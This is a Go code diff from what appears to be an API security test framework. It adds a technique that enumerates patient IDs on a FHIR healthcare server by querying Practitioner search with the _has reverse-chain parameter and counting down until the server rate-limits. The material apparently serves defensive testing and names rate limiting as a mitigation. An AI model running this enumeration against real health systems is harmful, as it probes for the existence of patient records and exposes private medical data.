@@ -35,6 +35,33 @@ var _ = register("F-13", Technique{
 	},
 })
 
+var _ = register("F-13/chained", Technique{
+	Variant: "chained",
+	Title:   "Record numbers tried behind a question that is never a miss",
+	Story: "The thief knows that an API turns away whoever asks for records that are not there. So he asks for doctors, whom everybody may see: those " +
+		"who have a patient of such a number. That nobody is found is an ordinary answer, and he counts down until somebody is.",
+	Reads:  []string{"OWASP API4:2023", "hapi-fhir #6065", "FHIR R4 search, _has"},
+	Has:    []event.Asset{event.OwnClient},
+	Beyond: beyondObjects + " One that bounds how much a caller may ask in a minute makes guessing slow.",
+	Run: func(ctx context.Context, g Ground) error {
+		a, t, err := ownToken(ctx, g)
+		if err != nil {
+			return err
+		}
+		const above = 122 // more guesses than an API that counts lets through
+		for _, id := range numbersDownTo(g.Target().Patients[len(g.Target().Patients)-1], above) {
+			ans, err := a.read(ctx, g.Target().FHIRBase+"/Practitioner?_summary=count&_has:Patient:general-practitioner:_id="+id, t)
+			if err != nil {
+				return err
+			}
+			if ans.status == http.StatusTooManyRequests {
+				return nil
+			}
+		}
+		return nil
+	},
+})
+
 // numbersDownTo lists ids like the given one, from some numbers above it downwards.
 func numbersDownTo(id string, above int) (out []string) {
 	var n int
